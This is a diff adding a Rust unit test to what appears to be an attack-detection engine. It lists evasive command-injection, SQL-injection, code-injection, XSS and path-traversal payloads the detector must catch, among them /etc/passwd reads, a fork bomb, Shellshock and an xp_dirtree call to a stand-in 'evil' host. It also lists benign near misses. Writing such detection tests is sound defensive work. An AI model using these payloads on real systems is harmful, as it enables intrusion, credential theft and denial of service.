@@ -151,6 +151,83 @@ fn hard_negatives() {
 }
 
 #[test]
+fn evasions_and_new_syntax_classes() {
+    let d = Detector::with_default_rules().unwrap();
+    let cases: &[(Family, &str)] = &[
+        // Shell: empty substitutions and unset variables inside words, quoting, flags.
+        (Family::Cmdi, r"x;c$u\at /et$u\c/pas$u\swd"),
+        (Family::Cmdi, "una$$me -a"),
+        (Family::Cmdi, "ping`` 127.0.0.1"),
+        (Family::Cmdi, "kill '-'9"),
+        (Family::Cmdi, "() { :; }; echo vulnerable"),
+        (Family::Cmdi, ".(){ .|.& };."),
+        (Family::Cmdi, "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
+        (Family::Cmdi, "dd if=/etc/passwd of=/tmp/x"),
+        (Family::Cmdi, "find /etc -name passwd -exec cat {} ;"),
+        (Family::Cmdi, "for /f %variable in ('command') do command"),
+        (Family::Cmdi, "if not %1 == \"\" ("),
+        (Family::Cmdi, "x&bcdboot /r file.txt"),
+        (Family::Cmdi, "alias -p x=id"),
+        // SQL statements, catalogs and casts.
+        (Family::Sqli, "x;INSERT INTO users (name) VALUES"),
+        (Family::Sqli, "from `db`.`users` limit 1"),
+        (Family::Sqli, "1; exec xp_dirtree '\\\\evil\\a'"),
+        (Family::Sqli, "x; SET @a = 0x41"),
+        (Family::Sqli, "1;drop"),
+        (Family::Sqli, "id=(select"),
+        (Family::Sqli, "FROM t WHERE name=\"x\""),
+        (Family::Sqli, "OR '{\"a\":\"b\"}' ? 'a'"),
+        // Java: serialization header in short base64, JSP upload, gadget names.
+        (Family::Jndi, "rO0ABQ"),
+        (Family::Jndi, "shell.jspx."),
+        // Code: PHP calls hidden by comments, variable functions, JS loops, node-serialize.
+        (Family::CodeInjection, "exec#comment\n (ls)"),
+        (Family::CodeInjection, "$_x[@5]/*a*/[@d] ()"),
+        (Family::CodeInjection, "while(!undefined)"),
+        (
+            Family::CodeInjection,
+            "\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
+        ),
+        (Family::CodeInjection, "shell.php..."),
+        // XSS for a 7-bit decoder.
+        (Family::Xss, "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}"),
+        // Restricted files.
+        (Family::PathTraversal, "/wp-content/debug.log"),
+        (Family::PathTraversal, "/backup.sql.zip"),
+    ];
+    for (fam, v) in cases {
+        assert!(
+            families(&d, v).contains(fam),
+            "missed {fam:?} in {v:?}: {:?}",
+            families(&d, v)
+        );
+    }
+    // Near misses of the same classes.
+    for v in [
+        "Please select one (select a size)",
+        "Lunch; update me later",
+        "trade union all members",
+        "costs $5 or us$10",
+        "echo $HOME",
+        "for each item in (list) do it",
+        "if a == b then c",
+        "report.pdf",
+        "/index.php",
+        "/logs/app.log",
+        "Products",
+        "¼ cup sugar, ½ tsp salt",
+        "from home where name is ok",
+        "kitchen data when from temp Order by Friday for delivery on Monday.",
+    ] {
+        assert!(
+            families(&d, v).is_empty(),
+            "false positive on {v:?}: {:?}",
+            families(&d, v)
+        );
+    }
+}
+
+#[test]
 fn inspect_reports_span_ids_and_minimized_evidence() {
     let d = Detector::with_default_rules().unwrap();
     let t = TenantId::new("acme").unwrap();
